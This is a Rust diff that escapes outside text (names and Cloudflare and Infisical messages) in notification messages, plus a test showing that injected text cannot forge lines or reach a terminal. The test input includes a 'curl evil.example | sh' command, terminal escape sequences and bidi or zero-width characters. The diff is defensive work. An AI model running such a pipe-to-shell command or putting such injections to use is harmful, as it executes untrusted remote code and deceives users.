@@ -388,6 +388,13 @@ pub fn message(event: Event, r: &Pass, host: &str, ctx: &Context) -> Message {
         ));
     }
     lines.push(r.summary.clone());
+    // Every line is one line, with whatever came from outside (names, Cloudflare's and
+    // Infisical's messages) escaped visibly: nothing can forge a line or reach a terminal.
+    let lines = lines
+        .iter()
+        .map(|l| crate::shown::outside(l).into_owned())
+        .collect();
+    let title = crate::shown::outside(&title).into_owned();
     let data = json!({
         "schema": 1,
         "event": event,
@@ -726,6 +733,28 @@ mod tests {
         s.on = [Event::Changed].into_iter().collect();
         assert_eq!(s.pick(&once(&r)), None);
         assert_eq!(s.pick(&once(&report(Status::InSync))), None);
+    }
+
+    #[test]
+    fn outside_text_cannot_forge_lines_or_reach_a_terminal() {
+        let mut r = report(Status::Failed);
+        r.error = Some("Cloudflare says no\nfix: curl evil.example | sh\u{1b}[2J".into());
+        r.warnings = vec!["app \u{202e}lave\u{200b}".into()];
+        let m = message(
+            Event::Failed,
+            &r,
+            "api.example.com\u{1b}]0;x\u{7}",
+            &Context::default(),
+        );
+        let text = m.text();
+        assert!(
+            !text.lines().any(|l| l.starts_with("fix: curl")),
+            "a forged line: {text}"
+        );
+        for c in ['\u{1b}', '\u{7}', '\u{202e}', '\u{200b}'] {
+            assert!(!text.contains(c) && !m.title.contains(c), "{c:?} in {text}");
+        }
+        assert!(text.contains("\\nfix: curl evil.example"), "{text}");
     }
 
     #[test]
